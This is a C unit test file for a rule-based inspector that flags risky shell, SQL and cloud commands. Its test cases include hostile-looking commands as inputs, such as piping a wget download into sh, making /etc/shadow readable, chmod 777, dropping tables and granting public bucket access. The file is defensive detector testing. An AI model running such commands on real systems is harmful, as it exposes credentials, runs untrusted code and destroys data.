/*
 * inspect_rules: the shipped rule table loads; every rule finds its own
 * example; commands that widen nothing give no finding; wrappers,
 * substitutions, carried shells and find -exec are seen through; what
 * cannot be read is a finding; malformed tables are refused; limits.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../src/defaults/defaults.h"
#include "../src/inspect/inspect.h"
#include "../src/inspect/inspect_access.h"
#include "../src/inspect/inspect_rules.h"
#include "test_util.h"

static struct inspect_rules *rules;
static struct inspect_access_tables *access;

static int
setup(void **state)
{
    (void)state;
    char err[256];
    /* The built-in table compiles whole (at run time each pattern is
     * compiled when first matched). */
    if (inspect_rules_load(&rules, defaults_inspect_rules, strlen(defaults_inspect_rules), err,
                           sizeof(err)) ||
        inspect_rules_compile(rules, err, sizeof(err)) ||
        inspect_access_load(&access, defaults_inspect_access, strlen(defaults_inspect_access), err,
                            sizeof(err)))
        return -1;
    inspect_rules_set_access(rules, access);
    return 0;
}

static int
teardown(void **state)
{
    (void)state;
    inspect_rules_free(rules);
    inspect_access_free(access);
    return 0;
}

/* The rule ids found in text, space separated. */
static void
ids(const char *text, char *out, size_t cap)
{
    struct inspect_finding *f;
    size_t n, off = 0;
    out[0] = '\0';
    assert_int_equal(inspect_findings(rules, text, strlen(text), &f, &n), 0);
    for (size_t i = 0; i < n && off < cap; i++)
        off += (size_t)snprintf(out + off, cap - off, "%s%s", i ? " " : "", f[i].rule);
    free(f);
}

static void
test_every_example(void **state)
{
    (void)state;
    assert_true(inspect_rules_count(rules) >= 80);
    for (size_t i = 0; i < inspect_rules_count(rules); i++) {
        char got[512];
        ids(inspect_rule_example(rules, i), got, sizeof(got));
        char want[64];
        snprintf(want, sizeof(want), "%s", inspect_rule_id(rules, i));
        if (!strstr(got, want))
            fail_msg("rule %s misses its example '%s' (found: %s)", want,
                     inspect_rule_example(rules, i), got);
    }
}

static void
test_cases(void **state)
{
    (void)state;
    static const char *const cases[][2] = {
        /* widens nothing */
        {"chmod 600 ~/.ssh/id_ed25519", ""},
        {"chmod go-rwx /srv/data", ""},
        {"rm -rf ./build", ""},
        {"curl -o install.sh https://get.example.com", ""},
        {"echo hello > out.txt", ""},
        {"for x in rm -rf /; do :; done", ""},
        /* one named user: an access change of low severity (inspect-access.txt) */
        {"gsutil iam ch user:dana@acme.com:objectViewer gs://b", "GCS-ALLUSERS"},
        /* SQL, statement by statement; comments and literals are not statements */
        {"psql -c 'select 1; -- grant all on t to public'", ""},
        {"psql -c \"select 'GRANT ALL ON t TO PUBLIC'\"", ""},
        {"psql -c 'select 1;drop   table\n users'", "SQL-DROP"},
        {"mysql --execute='/* x */ TRUNCATE orders'", "SQL-TRUNCATE"},
        {"psql <<'EOF'\ngrant select on all tables in schema public to public;\nEOF",
         "SQL-GRANT-PUBLIC"},
        {"psql <<< 'ALTER USER app WITH SUPERUSER'", "SQL-SUPERUSER"},
        /* policy documents: anyone in; with a Condition, someone (unknown) */
        {"aws s3api put-bucket-policy --bucket b --policy '{\"Statement\":{\"Effect\":\"Allow\","
         "\"Principal\":{\"AWS\":[\"arn:aws:iam::1:root\",\"*\"]}}}'",
         "CLOUD-POLICY-PUBLIC"},
        {"aws s3api put-bucket-policy --bucket b --policy '{\"Statement\":[{\"Effect\":\"Allow\","
         "\"Principal\":\"*\",\"Condition\":{\"IpAddress\":{}}}]}'",
         "CLOUD-POLICY-DOC"}, /* not public, but of unknown breadth: a person judges */
        {"aws s3api put-bucket-policy --bucket b --policy '{\"Statement\":[{\"Effect\":\"Deny\","
         "\"Principal\":\"*\"}]}'",
         ""},
        /* seen through */
        {"sudo -u root chmod 777 /srv", "CHMOD-WIDEN"},
        {"bash -c 'chmod -R a+rwx /srv'", "CHMOD-WIDEN"},
        {"find /srv -type f -exec chmod 666 {} +", "CHMOD-WIDEN"},
        {"echo $(chmod o+r /etc/shadow)", "CHMOD-READABLE CHMOD-SENSITIVE"},
        {"ssh host 'gsutil iam ch allUsers:objectViewer gs://b'", "GCS-ALLUSERS"},
        {"wget -qO- http://x | sh", "CURL-TO-SHELL opaque"},
        /* what cannot be read */
        {"$CMD -rf /", "opaque"},
        {"echo 'unterminated", "parse"},
        {"sh ./install.sh", "opaque RUN-BY-PATH"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char got[512];
        ids(cases[i][0], got, sizeof(got));
        if (strcmp(got, cases[i][1]))
            fail_msg("'%s': want '%s', got '%s'", cases[i][0], cases[i][1], got);
    }
}

static void
test_bad_tables(void **state)
{
    (void)state;
    static const char *const bad[][2] = {
        {"X\twidens-access\thigh\tcmd a\twhy", "line 1: expected six"},
        {"# c\nX\twidens\thigh\tcmd a\twhy\ta", "line 2: unknown category"},
        {"X\topaque\tsevere\tcmd a\twhy\ta", "unknown severity"},
        {"X\topaque\thigh\targ /a/\twhy\ta", "first condition must be cmd"},
        /* INSPECT_MAX_SOURCES (8) sources of a part: nine are refused */
        {"X\twidens-access\tauto\tcmd a\twhy\ta\tchange=grant grantee=-a,-b,-c,-d,-e,-f,-g,-h,-i",
         "an access change that is not"},
        {"X\twidens-access\tauto\tcmd a\twhy\ta", "severity auto needs an access change"},
        {"X\topaque\thigh\t!cmd a\twhy\ta", "first condition must be cmd"},
        {"X\topaque\thigh\tcmd a && arg (\twhy\ta", "bad /regex/"},
        {"X\topaque\thigh\tcmd a && colour red\twhy\ta", "a condition that is not"},
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        struct inspect_rules *r = NULL;
        char err[256];
        assert_int_equal(inspect_rules_load(&r, bad[i][0], strlen(bad[i][0]), err, sizeof(err)),
                         -1);
        if (!strstr(err, bad[i][1]))
            fail_msg("'%s': error '%s' does not say '%s'", bad[i][0], err, bad[i][1]);
    }
    /* A pattern that does not compile: found when the table is compiled
     * (an operator's table is, when it loads: inspect_open). */
    struct inspect_rules *r = NULL;
    char err[256];
    const char *t = "X\topaque\thigh\tcmd a && arg /(/\twhy\ta";
    assert_int_equal(inspect_rules_load(&r, t, strlen(t), err, sizeof(err)), 0);
    assert_int_equal(inspect_rules_compile(r, err, sizeof(err)), -1);
    assert_non_null(strstr(err, "rule X: a pattern does not compile"));
    inspect_rules_free(r);
    struct inspect *in;
    assert_int_equal(inspect_open(&in, t, NULL, err, sizeof(err)), -1);
    assert_non_null(strstr(err, "rule table: rule X: a pattern does not compile"));
}

static void
test_limits(void **state)
{
    (void)state;
    /* INSPECT_MAX_RULES rules load, one more does not. */
    const char *line = "R\topaque\tlow\tcmd x\twhy\tx\n";
    size_t ll = strlen(line);
    char *t = malloc(ll * (INSPECT_MAX_RULES + 1) + 1);
    for (size_t i = 0; i <= INSPECT_MAX_RULES; i++)
        memcpy(t + i * ll, line, ll);
    struct inspect_rules *r;
    char err[256];
    assert_int_equal(inspect_rules_load(&r, t, ll * INSPECT_MAX_RULES, err, sizeof(err)), 0);
    inspect_rules_free(r);
    assert_int_equal(inspect_rules_load(&r, t, ll * (INSPECT_MAX_RULES + 1), err, sizeof(err)), -1);
    assert_non_null(strstr(err, "more rules"));
    free(t);
    /* INSPECT_MAX_CONDS conditions in a rule, and one more. */
    for (unsigned extra = 0; extra < 2; extra++) {
        char rule[1024];
        size_t off = (size_t)sprintf(rule, "R\topaque\tlow\tcmd x");
        for (unsigned i = 1; i < INSPECT_MAX_CONDS + extra; i++)
            off += (size_t)sprintf(rule + off, " && flag f");
        sprintf(rule + off, "\twhy\tx -f");
        assert_int_equal(inspect_rules_load(&r, rule, strlen(rule), err, sizeof(err)),
                         extra ? -1 : 0);
        if (extra)
            assert_non_null(strstr(err, "too many conditions"));
        else
            inspect_rules_free(r);
    }
    /* Shell texts carried INSPECT_MAX_CARRY_DEPTH deep are read; one more is
     * opaque.  watch carries the rest of its words, so no quoting is needed. */
    for (unsigned extra = 0; extra < 2; extra++) {
        char text[512] = "", got[512];
        for (unsigned i = 0; i < INSPECT_MAX_CARRY_DEPTH + extra; i++)
            strcat(text, "watch ");
        strcat(text, "chmod 777 x");
        ids(text, got, sizeof(got));
        assert_string_equal(got, extra ? "opaque" : "CHMOD-WIDEN");
    }
    /* INSPECT_MAX_FINDINGS findings, the last saying there were more. */
    size_t n = INSPECT_MAX_FINDINGS + 10;
    char *text = malloc(n * 14 + 1);
    for (size_t i = 0; i < n; i++)
        memcpy(text + i * 14, "chmod 777 a;\n ", 14);
    struct inspect_finding *f;
    size_t nf;
    assert_int_equal(inspect_findings(rules, text, n * 14, &f, &nf), 0);
    assert_int_equal(nf, INSPECT_MAX_FINDINGS);
    assert_string_equal(f[nf - 1].rule, "limit");
    free(f);
    free(text);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_every_example),
        cmocka_unit_test(test_cases),
        cmocka_unit_test(test_bad_tables),
        cmocka_unit_test(test_limits),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
